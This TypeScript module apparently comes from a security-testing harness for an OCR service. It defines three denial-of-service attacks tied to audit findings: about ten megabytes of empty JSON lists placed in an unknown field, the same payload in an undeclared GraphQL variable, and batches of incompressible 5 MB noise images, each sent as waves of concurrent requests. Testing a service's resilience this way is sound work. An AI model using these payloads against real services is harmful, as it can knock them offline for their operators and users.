import { randomBytes } from 'node:crypto';
import sharp from 'sharp';
import { ocrBody } from '../../house/ocr-body.ts';
import type { Attack } from '../attack.ts';
import { persist } from '../persist.ts';
import { PIXEL_INPUT, post } from './post.ts';

/** Empty lists: many times their bytes once they are parsed. */
const LISTS = `[${Array(3_200_000).fill('[]').join(',')}]`;

/** The engine has one place, and 20 s for each call: all of them wait, with whatever is kept of them. */
export const unknownFields: Attack = {
  name: 'fourteen calls that wait with ten megabytes of empty lists in a field that nobody knows',
  finding: 'S6',
  run: ({ funded }, signal) => {
    const { engine, input } = { engine: 'stuck', input: PIXEL_INPUT };
    const text = `{"engine":"${engine}","input":${JSON.stringify(input)},"unknown":${LISTS}}`;
    return persist(signal, { width: 14, pauseMs: 1000 }, () => post(funded, text, signal));
  },
};

export const undeclaredVariables: Attack = {
  name: 'fourteen GraphQL calls that wait with as much in a variable that they do not declare',
  finding: 'S6',
  run: ({ funded }, signal) => {
    const request = { engine: 'stuck', input: { type: 'base64', dataBase64: PIXEL_INPUT.data_base64 } };
    const query = 'mutation ($request: OcrRequestInput!) { submitOcr(request: $request) { id } }';
    const variables = `{"request":${JSON.stringify(request)},"unknown":${LISTS}}`;
    const body = `{"query":${JSON.stringify(query)},"variables":${variables}}`;
    const headers = { 'content-type': 'application/json' };
    return persist(signal, { width: 14, pauseMs: 1000 }, () =>
      funded.caller.call('POST', '/graphql', { body, headers, signal }),
    );
  },
};

const SIDE = 1300;

/** Noise, which no packing makes smaller. */
export const waitingDocuments: Attack = {
  name: 'forty documents of five megabytes that wait for one place',
  finding: 'S2',
  run: async ({ funded }, signal) => {
    const raw = { width: SIDE, height: SIDE, channels: 3 } as const;
    const noise = await sharp(randomBytes(SIDE * SIDE * raw.channels), { raw })
      .png({ compressionLevel: 0 })
      .toBuffer();
    const text = JSON.stringify(ocrBody('stuck', noise));
    await persist(signal, { width: 40, pauseMs: 1000 }, () => post(funded, text, signal));
  },
};
